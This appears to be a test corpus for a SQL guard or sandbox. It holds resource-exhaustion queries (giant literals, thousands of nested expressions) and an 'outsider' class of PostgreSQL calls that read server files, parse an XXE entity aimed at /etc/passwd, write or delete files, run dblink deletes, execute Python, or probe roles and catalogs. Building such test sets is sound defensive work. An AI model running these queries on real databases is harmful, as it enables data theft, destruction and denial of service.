xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'
select 1  union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1 union select 1
select abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(abs(1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))
select case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then case when true then 1 end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end end
select -(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(--(-1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))
select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from (select * from customers) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x) x
-- class: empty
/* select 1 */
  ;  
␊ ␊
; -- nothing
-- class: outsider
select lo_truncate(lo_open(1, 131072), 0)
select lo_put(16400, 0, 'x')
select lo_lseek64(0, 1, 0), lo_tell64(0)
select loid from pg_largeobject_metadata
select pg_read_file('postgresql.conf', 0, 100, true)
select * from pg_ls_logdir() l
select * from pg_ls_archive_statusdir()
select * from pg_ls_replslotdir('x')
select * from pg_current_logfile()
select pg_log_backend_memory_contexts(1)
select pg_wal_replay_pause()
select pg_backup_start('x', true)
select pg_start_backup('x')
select pg_replication_origin_create('x')
select pg_logical_slot_get_changes('s', null, null)
select * from pg_logical_slot_peek_changes('s', null, null) x
select pg_copy_logical_replication_slot('a', 'b')
select pg_sync_replication_slots()
select pg_import_system_collations('public')
select pg_nextoid('pg_class', 'oid', 'i')
select pg_stat_reset_shared('bgwriter')
select pg_stat_statements_reset()
select pg_stat_force_next_flush()
select pg_prewarm('orders')
select pg_buffercache_evict(1)
select pg_get_functiondef(1)
select pg_get_viewdef('v')
select pg_relation_filepath('orders')
select pg_total_relation_size('orders')
select pg_database_size('postgres')
select txid_current()
select pg_current_xact_id()
select pg_xact_commit_timestamp('1'::xid)
select pg_safe_snapshot_blocking_pids(1)
select pg_isolation_test_session_is_blocked(1, '{2}')
select pg_blocking_pids(1)
select pg_conf_load_time(), pg_postmaster_start_time()
select inet_server_addr()
select inet_client_port()
select version()
select current_user
select session_user, current_role
select current_catalog
select user
select current_schemas(true)
select has_table_privilege('orders', 'delete')
select pg_has_role('postgres', 'usage')
select to_regclass('pg_authid')
select 'pg_authid'::regclass::oid
select 'orders'::text::regclass
select cast('now' as regnamespace)
select 'postgres'::regrole
select 1::oid::regtype
select row(1, 'x')::pg_user
select null::pg_authid
select '{1,2}'::pg_catalog.oidvector
select xpath('/a', '<a/>'::xml)
select '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'::xml
select xmlparse(document '<a/>')
select xmlelement(name a, (select 1))
select xmlserialize(content '<a/>'::xml as text)
select table_to_xmlschema('orders', false, false, '')
select database_to_xml_and_xmlschema(true, true, 'x')
select * from json_to_tsvector('{}', '[]') where pg_sleep(1) is null
select ts_rewrite('a'::tsquery, 'select 1::tsquery, 2::tsquery')
select ts_debug('x')
select * from ts_parse('default', 'x')
select * from ts_token_type('default')
select ts_lexize('english_stem', 'x')
select jsonb_populate_record(null::pg_authid, '{}')
select * from dblink('dbname=x', 'delete from orders') as t(a int)
select dblink_send_query('c', 'select 1')
select dblink_get_connections()
select * from dblink_get_result('c') as t(a int)
select postgres_fdw_get_connections()
select postgres_fdw_disconnect_all()
select plpy_exec('import os')
select pg_file_write('x', 'y', false)
select pg_file_unlink('x')
select pg_file_rename('a', 'b')
select crypt('x', gen_salt('bf', 31))
